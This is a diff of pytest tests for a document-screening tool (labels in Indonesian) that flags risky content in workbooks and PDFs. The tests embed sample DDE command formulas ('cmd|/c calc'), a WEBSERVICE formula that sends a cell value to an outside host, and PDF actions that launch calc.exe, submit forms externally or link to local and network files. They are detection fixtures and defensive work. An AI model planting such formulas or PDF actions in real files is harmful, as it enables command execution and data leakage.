@@ -23,7 +23,7 @@ from ppid_xl.bawaan import template_path
 from ppid_xl.cli import main
 from ppid_xl.hosts.lists import read_foreign_list, read_list
 from ppid_xl.ooxml.carried import carried_kinds
-from ppid_xl.ooxml.zip_parts import ZipParts
+from ppid_xl.ooxml.package import open_package
 from ppid_xl.plain_text import formula_free
 from ppid_xl.ttd.pdf_active import find_active
 from ppid_xl.workflow.isi_naskah import look_inside
@@ -67,8 +67,44 @@ def test_what_a_workbook_carries_is_told_and_its_cells_are_taken(
 def test_a_zip_within_a_workbook_is_left_closed(tmp_path: Path) -> None:
     inner = bytes_of_zip({"a.txt": b"0" * 1_000_000})
     path = pack(tmp_path / "a.xlsx", {**minimal_parts(), "xl/embeddings/dalam.zip": inner})
-    assert carried_kinds(ZipParts(path.read_bytes(), "a.xlsx")) == ("objek tertanam",)
+    assert carried_kinds(open_package(path)) == ("objek tertanam",)
     assert read_foreign_list(path).grids
+
+
+ASKING = (
+    'WEBSERVICE("http://contoh.invalid/"&amp;A1)',
+    "cmd|'/c calc'!A0",
+    "cmd|&apos;/c calc&apos;!A0",
+    'image("x")',
+)
+
+
+@pytest.mark.parametrize("formula", ASKING)
+def test_a_formula_that_asks_elsewhere_is_told(tmp_path: Path, formula: str) -> None:
+    cell = f'<row r="1"><c r="A1" t="str"><f>{formula}</f><v>dari luar</v></c></row>'
+    path = pack(tmp_path / "a.xlsx", minimal_parts(sheet_xml(cell)))
+    assert read_foreign_list(path).carried == ("rumus yang mengambil dari luar",)
+
+
+@pytest.mark.parametrize(
+    "formula", ["SUM(A1:A2)", 'A1&amp;"|"&amp;A2', 'HYPERLINK("#Temuan!A1")', "MYIMAGE(1)"]
+)
+def test_a_formula_that_only_counts_is_not_told(tmp_path: Path, formula: str) -> None:
+    cell = f'<row r="1"><c r="A1" t="str"><f>{formula}</f><v>x</v></c></row>'
+    assert read_foreign_list(pack(tmp_path / "a.xlsx", minimal_parts(sheet_xml(cell)))).carried == ()
+
+
+def test_hidden_rows_and_sheets_are_read_and_told(tmp_path: Path) -> None:
+    cells = "".join(
+        f'<row r="{n}"{" hidden=" + chr(34) + "1" + chr(34) if n > 2 else ""}>'
+        f'<c r="A{n}" t="inlineStr"><is><t>{text}</t></is></c></row>'
+        for n, text in enumerate(("Judul Informasi", "Data gaji", "Data cuti", "Data pensiun"), 1)
+    )
+    parts = minimal_parts(sheet_xml(cells))
+    hidden = parts["xl/workbook.xml"].replace(b'sheetId="1"', b'sheetId="1" state="veryHidden"')
+    found = read_foreign_list(pack(tmp_path / "a.xlsx", {**parts, "xl/workbook.xml": hidden}))
+    assert found.unseen == ("lembar tersembunyi (Rekap)", "2 baris tersembunyi")
+    assert found.grids[0].cells == [["Judul Informasi"], ["Data gaji"], ["Data cuti"], ["Data pensiun"]]
 
 
 @cache
@@ -117,6 +153,9 @@ def test_an_honest_pdf_passes_without_a_word(tmp_path: Path, content: bytes, pag
         ("/AA<</WC 4 0 R>>", ("<</S/SubmitForm/F(https://contoh.invalid)>>",), "pengiriman isian ke luar"),
         ("/Names<</EmbeddedFiles<</Names[(a)4 0 R]>>>>", ("<</Type/Filespec/F(a.exe)/EF<<>>>>",), "berkas lampiran"),
         ("/OpenAction<</S/Launch/F(calc.exe)>>", (), "perintah menjalankan program"),
+        ("/AcroForm<</Fields[]/XFA 4 0 R>>", ("<<>>",), "formulir XFA"),
+        ("/OpenAction<</S/GoToR/F(\\\\\\\\pc\\\\a.pdf)>>", (), "tautan ke berkas di komputer atau jaringan"),
+        ("/OpenAction<</S/URI/URI(file:///c:/a.exe)>>", (), "tautan ke berkas di komputer atau jaringan"),
     ],
 )  # fmt: skip
 def test_what_a_pdf_would_do_is_told(entries: str, objects: Sequence[str], kind: str) -> None:
@@ -127,6 +166,11 @@ def test_what_a_pdf_would_do_is_found_in_packed_objects_and_without_a_table() ->
     hidden = packed_pdf(1, catalog="/OpenAction<</S/Launch/F(calc.exe)>>")
     assert b"Launch" not in hidden
     assert find_active(hidden) == ("perintah menjalankan program",)
+
+
+def test_packed_objects_that_nobody_could_look_at_are_told() -> None:
+    packed = packed_pdf(1).replace(b"stream\nx", b"stream\ny")
+    assert find_active(packed) == ("bagian yang tidak dapat diperiksa",)
 
 
 def test_a_pdf_with_a_script_is_kept_and_staff_are_told(tmp_path: Path) -> None:
